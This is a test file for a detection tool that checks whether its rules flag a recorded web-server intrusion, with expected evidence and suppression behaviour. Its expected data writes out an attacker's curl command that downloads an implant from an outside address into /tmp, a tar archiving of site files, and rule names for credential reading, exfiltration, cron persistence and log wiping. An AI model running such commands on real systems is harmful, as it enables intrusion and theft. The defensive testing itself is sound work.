import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { type CheckOptions, check, readRules } from '../../src/check/check.js';
import { findingsWithEvidence } from '../../src/check/evidence.js';
import type { ReportedFinding } from '../../src/check/finding.js';
import { fixtures, root } from '../helpers/corpus.js';

const capture = join(fixtures, 'incident.scap');
const rules = join(fixtures, 'rules/incident.yaml');
const suppress = join(fixtures, 'accepted.yaml');

async function found(options: Partial<CheckOptions> = {}) {
  const run = check(capture, { rules, ...options });
  const findings: ReportedFinding[] = [];
  for await (const finding of run) findings.push(finding);
  return { findings, report: run.report() };
}

describe('the incident', () => {
  let plain: Awaited<ReturnType<typeof found>>;
  beforeAll(async () => {
    plain = await found();
  });

  it('is found, without false positives', () => {
    expect(plain.findings.map(({ rule, process, count }) => [rule, process?.name, count])).toEqual([
      ['Passwords are read', 'backup', 1],
      ['Web server starts a shell', 'sh', 1],
      ['Web server downloads from outside', 'curl', 1],
      ['File of temporary files is made a program', 'chmod', 1],
      ['Program runs from a directory for temporary files', '.u', 1],
      ['Accounts are listed', '.u', 1],
      ['Passwords are read', '.u', 1],
      ['Data leaves for another network', '.u', 7],
      ['Scheduled job is written', '.u', 1],
      ['Key for logging in is added', '.u', 1],
      ['Archive is made for a program of temporary files', 'tar', 1],
      ['Log is emptied', '.u', 1],
      ['Program removes itself', '.u', 1],
    ]);
    expect(
      plain.report.rules
        .filter(({ state }) => state !== 'matched')
        .map(({ rule, state }) => [rule.name, state]),
    ).toEqual([
      ['Kernel module is loaded', 'unmatched'],
      ['Known command server is contacted', 'unevaluated'],
    ]);
  });

  it('shows processes, commands, files and connections', () => {
    const named = (name: string) => plain.findings.find(({ rule }) => rule === name);
    const archive = named('Archive is made for a program of temporary files')?.process;
    expect(archive).toMatchObject({
      cmdline: 'tar -cf /tmp/.d /srv/shop',
      exepath: '/usr/bin/tar',
      cwd: '/',
    });
    expect(archive?.ancestors.map(({ name, exepath }) => [name, exepath])).toEqual([
      ['.u', '/tmp/.u'],
      ['sh', '/bin/sh'],
      ['nginx', '/usr/sbin/nginx'],
      ['nginx', '/usr/sbin/nginx'],
      ['shop-init', '/sbin/shop-init'],
    ]);
    expect(named('Web server downloads from outside')).toMatchObject({
      process: { cmdline: 'curl -so /tmp/.u http://203.0.113.66/u', uid: 65534 },
      connection: {
        protocol: 'tcp',
        client: { ip: '10.0.0.7' },
        server: { ip: '203.0.113.66', port: 80 },
      },
      container: { id: '7d1c0a9be442' },
    });
    expect(named('Scheduled job is written')).toMatchObject({
      process: { name: '.u', uid: 0 },
      file: { path: '/etc/cron.d/updates' },
    });
  });

  it('has the same ids in every run', async () => {
    const ids = plain.findings.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    expect((await found()).findings).toEqual(plain.findings);
    expect(
      (await found({ evidence: 1, suppress, today: '2026-11-29' })).findings.map(({ id }) => id),
    ).toEqual(ids);
    const all = (await found({ all: true })).findings.filter(({ rule }) => rule.startsWith('Data'));
    const first = plain.findings.find(({ rule }) => rule.startsWith('Data'))?.id;
    expect(all.map(({ id }) => id)).toEqual([
      first,
      ...[2, 3, 4, 5, 6, 7].map((nth) => `${first}-${nth}`),
    ]);
  });

  it('has the events of the thread around each finding', async () => {
    const { findings } = await found({ evidence: 2 });
    const job = findings.find(({ rule }) => rule === 'Scheduled job is written');
    expect(job?.evidence?.map(({ eventType, text }) => [eventType, text.slice(0, 40)])).toEqual([
      ['sendto', expect.stringContaining('res=54')],
      ['close', expect.any(String)],
      ['openat', expect.stringContaining('/etc/cron.d')],
      ['write', expect.stringContaining('res=50')],
      ['close', expect.any(String)],
    ]);
    expect(job?.evidence?.[2]).toMatchObject({ number: job?.eventNumber, ts: job?.ts });
    for (const { evidence, eventNumber } of findings) {
      expect(evidence?.filter(({ number }) => number === eventNumber)).toHaveLength(1);
      expect(evidence?.length).toBeGreaterThan(2);
      expect(evidence?.length).toBeLessThanOrEqual(5);
    }
    const start = findings.find(({ rule }) => rule.startsWith('Program runs'));
    expect(start?.evidence?.map(({ eventType }) => eventType)).toEqual([
      'clone',
      'execve',
      'openat',
      'read',
    ]);
  });

  it('has all events of a thread if evidence is large enough, and the same with --all', async () => {
    const { findings } = await found({ evidence: 200, all: true });
    const implant = findings.filter(({ process }) => process?.name === '.u');
    expect(implant).toHaveLength(14);
    for (const { evidence } of implant.slice(1)) expect(evidence).toEqual(implant[0]?.evidence);
  });

  it('can be suppressed in part', async () => {
    const { findings } = await found({ suppress, today: '2030-12-31' });
    expect(
      findings
        .filter(({ suppression }) => suppression !== undefined)
        .map(({ process }) => process?.name),
    ).toEqual(['backup']);
    const expired = await found({ suppress, today: '2031-01-01' });
    expect(expired.findings).toEqual(plain.findings);
  });

  it('gets evidence only for unsuppressed findings', async () => {
    const { findings } = await found({ suppress, today: '2030-12-31', evidence: 1 });
    expect(
      findings.filter(({ evidence }) => evidence === undefined).map(({ process }) => process?.name),
    ).toEqual(['backup']);
  });

  it.each([-1, 1.5, 1001])('rejects evidence of %s events', (evidence) => {
    expect(() => check(capture, { rules, evidence })).toThrow(
      'expected a whole number from 0 to 1000',
    );
  });

  it('needs a capture that can be read twice', () => {
    expect(() => check('-', { rules: readRules(rules), evidence: 1 })).toThrow(
      'standard input can be read only once',
    );
  });
});

it('was recorded, and contains no facts about the recording machine', () => {
  const sfkit = (...args: string[]) =>
    execFileSync(process.execPath, [join(root, 'bin/run.js'), ...args], {
      encoding: 'utf8',
      stdio: 'pipe',
    });
  const [info] = JSON.parse(sfkit('info', capture, '--json'));
  expect(info).toMatchObject({
    hostname: 'shop-host',
    bootTime: null,
    threads: 0,
    descriptors: 0,
    users: 2,
  });
  const programs = sfkit('events', capture, '--filter', 'evt.type = execve', '-p', '%evt.arg.env');
  expect(programs.trimEnd().split('\n')).toEqual(Array(10).fill('PATH=/usr/bin:/bin LANG=C.UTF-8'));
  const directories = /^\/(bin|etc|root|sbin|srv|tmp|usr|var)\/[a-z./_]+$/;
  const opened = sfkit('events', capture, '--filter', 'evt.type = openat', '-p', '%evt.arg.name');
  for (const path of opened.trimEnd().split('\n')) expect(path).toMatch(directories);
});

it('evidence is bounded', () => {
  expect(findingsWithEvidence(1)).toBe(1000);
  expect(findingsWithEvidence(100)).toBe(99);
  expect(findingsWithEvidence(1000)).toBe(9);
});
